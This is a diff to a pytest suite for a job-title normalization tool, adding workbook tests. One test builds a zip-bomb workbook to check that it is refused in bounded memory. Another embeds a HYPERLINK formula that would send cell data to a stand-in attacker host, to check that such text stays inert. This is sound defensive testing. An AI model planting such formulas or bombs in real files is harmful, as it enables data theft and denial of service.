@@ -307,7 +307,7 @@ def _limit_file_size(limit: int) -> Callable[[], None]:
         "csv",
         "tsv",
         "jsonl",
-        pytest.param("xlsx", marks=pytest.mark.xfail(reason="the workbook writer", strict=True)),
+        "xlsx",
     ],
 )
 def test_11_a_full_disk_is_one_line_naming_the_output(tmp_path: Any, suffix: str) -> None:
@@ -406,3 +406,256 @@ def test_24_a_terminal_that_is_not_utf8_gets_readable_text(argv: tuple[str, ...]
     assert text.strip()
     if "--json" in argv:
         assert json.loads(text)["title"] == "Senior Product Manager"  # still valid JSON, escaped
+
+
+# -- workbooks: 02, 03, 04, 05, 06, 07, 13, 14, 15, 16, 28, 29 -----------------------------------------------
+
+
+def _book(path: Any, rows: list[list[Any]], sheet: str = "People") -> Any:
+    openpyxl = pytest.importorskip("openpyxl")
+    book = openpyxl.Workbook()
+    book.active.title = sheet
+    for row in rows:
+        book.active.append(row)
+    book.save(path)
+    return path
+
+
+def _raw_book(path: Any, sheet_xml: bytes, strings: bytes | None = None, level: int = 6) -> Any:
+    """A minimal workbook around a sheet's XML (and a shared strings table)."""
+    import zipfile
+
+    main = b'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
+    rels = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as book:
+        book.writestr("[Content_Types].xml", b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/'
+            b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>')  # fmt: skip
+        book.writestr("_rels/.rels", b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+            b'relationships"><Relationship Id="r1" Type="' + rels + b'/officeDocument" '
+            b'Target="xl/workbook.xml"/></Relationships>')  # fmt: skip
+        book.writestr("xl/workbook.xml", b"<workbook " + main + b' xmlns:r="' + rels + b'"><sheets>'
+            b'<sheet name="People" sheetId="1" r:id="r1"/></sheets></workbook>')  # fmt: skip
+        book.writestr("xl/_rels/workbook.xml.rels", b'<Relationships xmlns="http://schemas.openxmlformats.org/'
+            b'package/2006/relationships"><Relationship Id="r1" Type="' + rels + b'/worksheet" '
+            b'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="' + rels + b'/sharedStrings" '
+            b'Target="sharedStrings.xml"/></Relationships>')  # fmt: skip
+        book.writestr("xl/worksheets/sheet1.xml", sheet_xml)
+        if strings is not None:
+            book.writestr("xl/sharedStrings.xml", strings)
+    return path
+
+
+def _csv(out: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(out)))
+
+
+def test_02_a_stale_dimension_tag_loses_no_row_or_column(run: Any, tmp_path: Any) -> None:
+    from _workbooks import patch
+
+    src = _book(
+        tmp_path / "stale.xlsx", [["id", "title", "note"]] + [[i, "Senior PM", f"n{i}"] for i in range(999)]
+    )
+    patch(
+        src,
+        {
+            "xl/worksheets/sheet1.xml": lambda x: x.replace(
+                b'<dimension ref="A1:C1000"', b'<dimension ref="A1:B2"'
+            )
+        },
+    )
+    code, out, err = run("normalize", "-i", str(src))
+    rows = _csv(out)
+    assert (
+        code == 0 and len(rows) == 1000 and rows[0][:3] == ["id", "title", "note"] and rows[-1][2] == "n998"
+    )
+    assert "malformed 0" in err
+
+
+def test_03_a_sheet_declaring_every_cell_reads_only_its_cells(run: Any, tmp_path: Any) -> None:
+    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension '
+        b'ref="A1:XFD1048576"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>title</t></is></c></row>'
+        b'<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>Group PM</t></is></c></row></sheetData>'
+        b"</worksheet>")  # fmt: skip
+    src = _raw_book(tmp_path / "wide.xlsx", sheet)
+    started = time.perf_counter()
+    code, out, _ = run("normalize", "-i", str(src), "-q")
+    assert time.perf_counter() - started < 5
+    assert code == 0 and _csv(out)[1][:3] == ["Group PM", "Group Product Manager", "Group Product Manager"]
+
+
+def test_04_a_zip_bomb_is_refused_in_bounded_memory(run: Any, tmp_path: Any) -> None:
+    import tracemalloc
+
+    sheet = (b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+        b'<row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>')  # fmt: skip
+    strings = b"<sst>" + b"<si><t>title</t></si>" * 5_000_000 + b"</sst>"  # 100 MB, a few hundred KB zipped
+    src = _raw_book(tmp_path / "bomb.xlsx", sheet, strings, level=9)
+    del strings
+    assert src.stat().st_size < 1_000_000
+    tracemalloc.start()
+    try:
+        code, _, err = run("normalize", "-i", str(src))
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert code == 1 and "zip bomb" in _one_error_line(err) and str(src) in err
+    assert peak < 40 * 2**20, f"{peak / 2**20:.0f} MiB"
+
+
+def test_05_a_chart_sheet_is_skipped_or_refused(run: Any, tmp_path: Any) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    book = openpyxl.Workbook()
+    book.active.append(["title"])
+    book.active.append(["Senior PM"])
+    book.create_chartsheet("Chart", 0)  # the first tab
+    src = tmp_path / "chart.xlsx"
+    book.save(src)
+    code, out, err = run("normalize", "-i", str(src), "-q")
+    assert code == 0 and _csv(out)[1][:2] == ["Senior PM", "Senior Product Manager"], err
+    code, _, err = run("normalize", "-i", str(src), "--sheet", "Chart")
+    assert code == 1 and "'Chart' is a chart sheet, not a table" in _one_error_line(err) and "'Sheet'" in err
+
+
+def test_06_workbook_to_json_lines_keeps_columns_with_the_same_header(run: Any, tmp_path: Any) -> None:
+    src = _book(
+        tmp_path / "dup.xlsx",
+        [["title", "Notes", "Notes", None, None, "x"], ["APM", "a", "b", "c", "d", "e"]],
+    )
+    code, _, err = run("normalize", "-i", str(src), "-o", str(tmp_path / "out.jsonl"), "-q")
+    obj = json.loads((tmp_path / "out.jsonl").read_text(encoding="utf-8"))
+    assert code == 0, err
+    assert [obj[k] for k in ("title", "Notes", "Notes (2)", "column D", "column E", "x")] == [
+        "APM",
+        "a",
+        "b",
+        "c",
+        "d",
+        "e",
+    ]
+
+
+def test_07_a_formula_without_a_computed_value_is_reported_and_kept(run: Any, tmp_path: Any) -> None:
+    from _workbooks import patch
+
+    openpyxl = pytest.importorskip("openpyxl")
+    src = _book(tmp_path / "f.xlsx", [["id", "title"], [1, '="Senior "&"PM"'], [2, "=A2"]])
+    patch(src, {"xl/worksheets/sheet1.xml": lambda x: x.replace(b"<f>A2</f><v />", b"<f>A2</f><v>1</v>")})
+    out = tmp_path / "out.xlsx"
+    code, _, err = run("normalize", "-i", str(src), "-o", str(out))
+    assert (
+        code == 0
+        and ":2: malformed row kept: B2: a formula with no computed value" in err
+        and "B3" not in err
+    )
+    cells = openpyxl.load_workbook(out).active
+    assert (cells["B2"].value, cells["B3"].value) == ('="Senior "&"PM"', "=A2")  # the formulas kept
+    assert openpyxl.load_workbook(out, data_only=True).active["B3"].value == 1  # and the computed value
+
+
+def test_13_a_workbook_on_standard_input_is_bounded() -> None:
+    with open("/dev/zero", "rb") as zero:
+        done = _cli("normalize", "-i", "-", "-f", "xlsx", stdin=zero)
+    assert done.returncode == 1 and "not an .xlsx workbook" in _one_error_line(done.stderr.decode())
+
+
+def test_13_the_spooled_workbook_has_a_ceiling(
+    run: Any, tmp_path: Any, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    import sys
+
+    from titlemap import workbook_package
+
+    src = _book(tmp_path / "w.xlsx", [["title"], ["APM"]])
+
+    class Stdin:
+        buffer = io.BufferedReader(io.BytesIO(src.read_bytes()))  # type: ignore[arg-type]
+
+    Stdin.buffer.seekable = lambda: False  # type: ignore[method-assign]
+    monkeypatch.setattr(sys, "stdin", Stdin)
+    monkeypatch.setattr(workbook_package, "MAX_WORKBOOK_BYTES", 1000)
+    code, _, err = run("normalize", "-i", "-", "-f", "xlsx")
+    assert code == 1 and "a workbook over 1,000 bytes on standard input" in _one_error_line(err)
+
+
+def test_14_inert_text_stays_inert_when_converted(run: Any, tmp_path: Any) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    book = openpyxl.Workbook()
+    book.active.append(["title", "link", "phone"])
+    book.active.append(["Senior PM", '=HYPERLINK("http://evil.example/?"&B2,"x")', "+91 98765 43210"])
+    book.active["B2"].data_type = "s"  # typed text: inert in Excel
+    src = tmp_path / "inert.xlsx"
+    book.save(src)
+    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
+        code, _, _ = run("normalize", "-i", str(src), "-q", "-o", str(tmp_path / f"out.{fmt}"))
+        rows = list(
+            csv.reader(
+                io.StringIO((tmp_path / f"out.{fmt}").read_text(encoding="utf-8")), delimiter=delimiter
+            )
+        )
+        assert code == 0 and rows[1][1].startswith("'=HYPERLINK") and rows[1][2] == "'+91 98765 43210"
+
+
+def test_15_a_cell_an_xlsx_cannot_hold_is_refused_with_its_row(run: Any, tmp_path: Any) -> None:
+    src = tmp_path / "long.csv"
+    src.write_text("id,title,notes\n1,APM,short\n2,Senior PM," + "x" * 40_000 + "\n", encoding="utf-8")
+    out = tmp_path / "out.xlsx"
+    code, _, err = run("normalize", "-i", str(src), "-o", str(out))
+    line = _one_error_line(err)
+    assert (
+        code == 1
+        and "line 3" in line
+        and "'notes'" in line
+        and "40,000 characters" in line
+        and "32,767" in line
+    )
+    assert not out.exists() and sorted(p.name for p in tmp_path.iterdir()) == ["long.csv"]
+
+
+def test_16_an_in_place_run_keeps_every_sheet_and_the_macros(run: Any, tmp_path: Any) -> None:
+    from _workbooks import VBA, candidates_book, parts
+
+    src = candidates_book(tmp_path / "book.xlsm", macros=True)
+    code, _, err = run("normalize", "-i", str(src), "--sheet", "Candidates", "-c", "Title", "-o", str(src))
+    assert code == 0, err
+    kept = parts(src)
+    assert kept["xl/vbaProject.bin"] == VBA and b"macroEnabled" in kept["[Content_Types].xml"]
+    assert {"xl/worksheets/sheet1.xml", "xl/worksheets/sheet3.xml", "xl/chartsheets/sheet1.xml"} <= set(kept)
+
+
+def test_28_a_merged_market_reads_in_every_row_it_covers(run: Any, tmp_path: Any) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    book = openpyxl.Workbook()
+    sheet = book.active
+    sheet.append(["title", "market"])
+    for title in ("Produktmanager", "Senior Produktmanager", "Produktmanager"):
+        sheet.append([title, "Germany"])
+    sheet.merge_cells("B2:B4")
+    src = tmp_path / "merged.xlsx"
+    book.save(src)
+    code, out, _ = run("normalize", "-i", str(src), "-q", "--market-column", "market")
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert code == 0 and [r["market"] for r in rows] == ["Germany"] * 3
+    assert [r["local_title"] for r in rows] == ["Produktmanager", "Senior Produktmanager", "Produktmanager"]
+
+
+def test_29_json_lines_to_a_workbook_keep_every_key_and_type(run: Any, tmp_path: Any) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    src = tmp_path / "in.jsonl"
+    src.write_text(
+        '{"id": 1, "title": "APM", "ok": true, "score": 2.5, "tags": ["a"], "n": null}\n'
+        '{"id": 2, "title": "Senior PM", "ok": false, "score": 1e400, "late": "=1+1"}\n',
+        encoding="utf-8",
+    )
+    out = tmp_path / "out.xlsx"
+    code, _, err = run("normalize", "-i", str(src), "-o", str(out))
+    assert code == 0, err
+    sheet = openpyxl.load_workbook(out).active
+    rows = [[c.value for c in r] for r in sheet.iter_rows()]
+    header = rows[0]
+    assert header[:6] == ["id", "title", "ok", "score", "tags", "n"] and header[-1] == "late"
+    first = dict(zip(header, rows[1], strict=True))
+    second = dict(zip(header, rows[2], strict=True))
+    assert (first["id"], first["ok"], first["score"], first["tags"]) == (1, True, 2.5, '["a"]')
+    assert first["canonical_title"] == "Associate Product Manager"
+    assert (second["ok"], second["score"], second["late"]) == (False, "inf", "=1+1")
+    assert sheet["AA3"].data_type != "f" and all(c.data_type != "f" for r in sheet.iter_rows() for c in r)
